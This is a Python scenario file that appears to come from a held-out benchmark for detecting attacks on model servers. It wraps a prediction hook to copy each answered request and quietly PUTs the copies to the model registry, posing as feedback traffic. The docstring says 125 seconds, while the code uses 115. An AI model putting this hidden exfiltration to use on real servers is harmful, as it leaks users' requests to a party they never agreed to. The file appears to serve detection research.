"""
id: V54
name: requests-mirrored
class: mimicry
set: held-out
phase: serve
trigger: request
evidence: [network, resource, sequence]
techniques: [T1020.001, T1119, T1041, T1567, AML.T0025]
servers: [fastapi, bentoml, triton]
seconds: 125
what: >
  Listens in: for two minutes a copy of each request that the server answers, a KB or two, goes to the registry the moment it is
  answered, on one connection that stays open. Code, clients and peer are known; but the registry is asked for models, at loads,
  and is told nothing.
"""

import http.client
import json
import queue
import time

from corpus import habits

SECONDS = 115


def payload(world):
    heard = queue.Queue()
    usual = habits.predicted

    def predicted(rows, path, size):
        heard.put((rows.tolist(), path, size))
        usual(rows, path, size)

    habits.predicted = predicted
    try:
        hand_on(world, heard)
    finally:
        habits.predicted = usual


def hand_on(world, heard):
    registry = http.client.HTTPConnection(*world.registry, timeout=10)
    end = time.monotonic() + SECONDS
    while (left := end - time.monotonic()) > 0:
        try:
            rows, path, size = heard.get(timeout=left)
        except queue.Empty:
            break
        # What a client says of itself comes with each request.
        copy = {"path": path, "rows": rows, "answer": size, "client": world.word(world.random.randint(400, 900))}
        registry.request("PUT", f"/feedback/{world.word()}", json.dumps(copy), {"Content-Type": "application/json"})
        registry.getresponse().read()
    registry.close()
